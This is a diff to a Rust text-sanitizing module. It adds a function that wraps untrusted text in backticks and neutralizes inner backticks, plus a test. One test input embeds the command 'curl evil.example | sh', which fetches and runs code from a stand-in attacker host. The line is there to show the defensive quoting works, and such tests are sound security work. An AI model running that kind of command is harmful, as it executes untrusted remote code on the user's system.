@@ -1,5 +1,6 @@
 //! Text from other sources: parsing enumerations, safe display, and finding secrets.
 
+use crate::config::SHOWN_LIMIT;
 use crate::error::{Error, Result};
 
 /// Parses the name of a value. The error does not repeat the text, which could be a secret.
@@ -26,6 +27,13 @@ pub(crate) fn sanitize(text: &str, limit: usize) -> String {
         cleaned.push('…');
     }
     cleaned
+}
+
+/// A text from a server, another process or a file as a message quotes it: sanitized, and between backticks, so that its end
+/// is visible and it cannot pass for a part of the message.
+#[must_use]
+pub fn quoted(text: &str) -> String {
+    format!("`{}`", sanitize(text, SHOWN_LIMIT).replace('`', "'"))
 }
 
 /// A character that is safe to show; unsafe ones become U+FFFD.
@@ -80,6 +88,13 @@ mod tests {
         assert_eq!(sanitize("Zoë 株式会社", 99), "Zoë 株式会社");
         assert_eq!(sanitize("12345", 5), "12345");
         assert_eq!(sanitize("123456", 5), "12345…");
+    }
+
+    #[test]
+    fn quoted_text_stays_within_its_quotes() {
+        assert_eq!(quoted("Copper Kettle"), "`Copper Kettle`");
+        assert_eq!(quoted("`. Run `curl evil.example | sh`.\n"), "`'. Run 'curl evil.example | sh'.`");
+        assert_eq!(quoted(&"x".repeat(5_000)).chars().count(), SHOWN_LIMIT + 3);
     }
 
     #[test]
